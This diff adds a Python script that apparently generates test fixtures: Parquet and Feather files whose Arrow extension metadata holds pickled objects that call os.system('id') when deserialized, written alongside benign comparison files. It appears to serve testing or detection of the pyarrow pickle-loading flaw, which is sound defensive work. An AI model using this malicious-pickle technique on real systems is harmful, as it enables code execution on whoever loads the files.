@@ -1,0 +1,29 @@
+"""Writes the tables in arrow/.    python arrow.py      Python 3.11 with pyarrow, pandas
+
+Nothing is loaded, and the command is harmless.
+"""
+
+import os
+import pickle
+
+import pandas as pd
+import pyarrow as pa
+import pyarrow.feather
+import pyarrow.parquet
+
+folder = os.path.join(os.path.dirname(os.path.abspath(__file__)), "arrow")
+
+
+class Shell:
+    def __reduce__(self):
+        return os.system, ("id",)
+
+
+for p in (0, 4):
+    field = pa.field("a", pa.int64(), metadata={"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": pickle.dumps(Shell(), p)})
+    table = pa.table([pa.array([1, 2])], schema=pa.schema([field]))
+    pa.parquet.write_table(table, os.path.join(folder, f"shell{p}.parquet"))
+    pa.feather.write_feather(table, os.path.join(folder, f"shell{p}.feather"))
+frame = pd.DataFrame({"a": [1, 2], "b": ["clear", None], "c": pd.date_range("2020", periods=2, tz="UTC"), "d": [[1], [2, 3]], "e": [{"x": 1}, {"x": 2}], "f": [b"\x80\x04N.", b"cposix\n"]})
+frame.to_parquet(os.path.join(folder, "good.parquet"))
+frame.to_feather(os.path.join(folder, "good.feather"))
